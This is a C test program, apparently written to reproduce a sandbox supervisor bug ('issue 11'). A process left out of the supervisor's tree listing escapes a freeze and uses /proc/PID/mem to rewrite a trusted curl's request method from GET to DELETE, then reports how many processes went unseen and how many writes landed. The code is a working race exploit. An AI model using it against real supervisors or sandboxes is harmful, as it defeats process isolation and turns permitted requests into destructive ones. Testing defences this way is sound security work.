/* Review of issue 11, end to end: a tree process left out of the supervisor's listing (TreeTasks
 * remembered it as outside the tree: its parent was reaped between the read of its stat and its
 * parent's, see orphan-race.c) is never held by a freeze, and rewrites a trusted curl's method in
 * the window the freeze closes for everyone else.
 *
 *   invisible-writer PAIRS CURL URL ORDER_DIR
 *
 * The walk must meet the child before its parent: the child's pid (as the supervisor sees it) lower
 * than its parent's. A tree reaches that by wrapping the pids (pid_max 32768 here); this test lets a
 * helper outside the tree order them (ORDER_DIR/req: one byte "H" or "L" asks it to set the host's
 * ns_last_pid high or low, ORDER_DIR/ack answers). Meanwhile a child of ours runs trusted GETs in a loop
 * (each one freezes the tree, and lists it). Each P blocks in sigtimedwait: a freeze stops it, and
 * the stop makes that call fail with EINTR: P exits ("seen"). P's still there after the loop were never
 * stopped: each, on SIGUSR1, forks a curl -X GET and writes DELETE over its method through a
 * /proc/PID/mem opened between the exec's commit and the seal (seal-race memfd's way).
 * Prints "pairs N unseen U wrote W". Every syscall is checked; a failure exits 2. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define DIE(what) do { fprintf(stderr, "invisible-writer: %s: %s\n", (what), strerror(errno)); exit(2); } while (0)

static const char *dir, *curl, *url;

static void order(char c)
{
    char p[256], a;
    snprintf(p, sizeof p, "%s/req", dir);
    int r = open(p, O_WRONLY);
    if (r < 0 || write(r, &c, 1) != 1)
        DIE("req");
    close(r);
    snprintf(p, sizeof p, "%s/ack", dir);
    for (;;) { /* EOF: the helper's previous answer was closing as we opened; wait for ours */
        int k = open(p, O_RDONLY);
        if (k < 0)
            DIE("ack");
        ssize_t n = read(k, &a, 1);
        close(k);
        if (n == 1)
            break;
        if (n < 0)
            DIE("ack");
    }
}

/* curl's name and, while it is dumpable, arg_start (0 once sealed). */
static int stat_of(pid_t c, char *state, unsigned long *arg_start)
{
    char path[64], buf[1024];
    snprintf(path, sizeof path, "/proc/%d/stat", c);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return -1;
    buf[n] = 0;
    char *rp = strrchr(buf, ')');
    if (rp == NULL)
        return -1;
    *state = rp[2];
    *arg_start = 0;
    char *p = rp + 2;
    for (int field = 3; field <= 48 && p != NULL; field++) {
        if (field == 48)
            *arg_start = strtoul(p, NULL, 10);
        p = strchr(p, ' ');
        if (p != NULL)
            p++;
    }
    return strstr(buf, "(curl)") != NULL;
}

/* The attack, from a process no freeze holds. 1: a write of DELETE landed after the tool ran. */
static int attack(void)
{
    char *av[] = {(char *)curl, "-s", "-o", "/dev/null", (char *)url, "-X", "GET", NULL};
    char *ev[] = {"PAD=xxxxxxxx", "PATH=/usr/bin:/bin", NULL};
    unsigned long off = 0;
    for (int i = 0; i < 6; i++)
        off += strlen(av[i]) + 1;
    int go[2];
    if (pipe(go) < 0)
        DIE("pipe");
    pid_t c = fork();
    if (c < 0)
        DIE("fork");
    if (c == 0) {
        char b;
        if (read(go[0], &b, 1) != 1)
            _exit(101);
        if (nice(19) < 0 && errno != 0)
            _exit(102);
        execve(curl, av, ev);
        _exit(101);
    }
    if (write(go[1], "g", 1) != 1)
        DIE("write");
    int mem = -1, wrote = 0;
    unsigned long at = 0;
    char state;
    unsigned long as;
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (;;) {
        int is = stat_of(c, &state, &as);
        if (is < 0)
            break;
        if (is == 1 && as != 0 && mem < 0) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/mem", c);
            mem = open(path, O_RDWR | O_CLOEXEC);
            at = as + off;
        }
        if (mem >= 0 && state != 't') {
            if (pwrite(mem, "DELETE", 7, (off_t)at) == 7)
                wrote = 1;
            break;
        }
        clock_gettime(CLOCK_MONOTONIC, &t);
        if (t.tv_sec - t0.tv_sec > 3)
            break;
    }
    int st;
    waitpid(c, &st, 0);
    return wrote;
}

static void child_p(int report)
{
    sigset_t s;
    sigemptyset(&s);
    sigaddset(&s, SIGUSR1);
    if (sigprocmask(SIG_BLOCK, &s, NULL) < 0)
        DIE("sigprocmask");
    if (signal(SIGCHLD, SIG_DFL) == SIG_ERR)
        DIE("signal");
    for (;;) {
        struct timespec ts = {60, 0};
        int r = sigtimedwait(&s, NULL, &ts);
        if (r == SIGUSR1) {
            char w = attack() ? 'W' : 'w';
            if (write(report, &w, 1) != 1)
                _exit(3);
            _exit(0);
        }
        if (r < 0 && errno == EINTR)
            _exit(0); /* held by a freeze: seen */
    }
}

int main(int argc, char **argv)
{
    if (argc != 5)
        return 2;
    int pairs = atoi(argv[1]);
    curl = argv[2], url = argv[3], dir = argv[4];
    int pids[2], rep[2];
    if (pipe(pids) < 0 || pipe(rep) < 0)
        DIE("pipe");
    if (signal(SIGCHLD, SIG_IGN) == SIG_ERR)
        DIE("signal");
    /* The trusted GETs, each a freeze. */
    pid_t loop = fork();
    if (loop < 0)
        DIE("fork");
    if (loop == 0) {
        char *av[] = {(char *)curl, "-s", "-o", "/dev/null", (char *)url, "-X", "GET", NULL};
        for (int i = 0; i < pairs / 4 + 40; i++) {
            pid_t g = fork();
            if (g == 0) {
                execv(curl, av);
                _exit(101);
            }
            int st;
            waitpid(g, &st, 0);
        }
        _exit(0);
    }
    srand(getpid());
    pid_t *ps = calloc(pairs, sizeof *ps);
    for (int i = 0; i < pairs; i++) {
        order('H');
        pid_t x = fork();
        if (x < 0)
            DIE("fork X");
        if (x == 0) {
            order('L');
            pid_t p = fork();
            if (p < 0)
                DIE("fork P");
            if (p == 0)
                child_p(rep[1]);
            if (write(pids[1], &p, sizeof p) != sizeof p)
                DIE("write");
            struct timespec t = {0, (long)(rand() % 12000) * 1000};
            nanosleep(&t, NULL);
            _exit(0);
        }
        if (read(pids[0], &ps[i], sizeof ps[i]) != sizeof ps[i])
            DIE("read");
        struct timespec gap = {0, (long)(rand() % 500) * 1000};
        nanosleep(&gap, NULL);
    }
    /* Then three more GETs: every P made has been through a freeze (seen) unless it is left out. */
    while (kill(loop, 0) == 0)
        usleep(10000);
    for (int i = 0; i < 3; i++) {
        char *av[] = {(char *)curl, "-s", "-o", "/dev/null", (char *)url, "-X", "GET", NULL};
        pid_t g = fork();
        if (g < 0)
            DIE("fork");
        if (g == 0) {
            execv(curl, av);
            _exit(101);
        }
        int st;
        waitpid(g, &st, 0); /* SIGCHLD ignored: returns once it has exited (ECHILD) */
    }
    usleep(100000);
    int unseen = 0, wrote = 0;
    for (int i = 0; i < pairs; i++) {
        if (kill(ps[i], 0) != 0)
            continue;
        unseen++;
        if (unseen > 5) {
            kill(ps[i], SIGKILL);
            continue;
        }
        if (kill(ps[i], SIGUSR1) < 0)
            DIE("kill");
        char w;
        if (read(rep[0], &w, 1) != 1)
            DIE("read report");
        wrote += w == 'W';
    }
    printf("pairs %d unseen %d wrote %d\n", pairs, unseen, wrote);
    return 0;
}
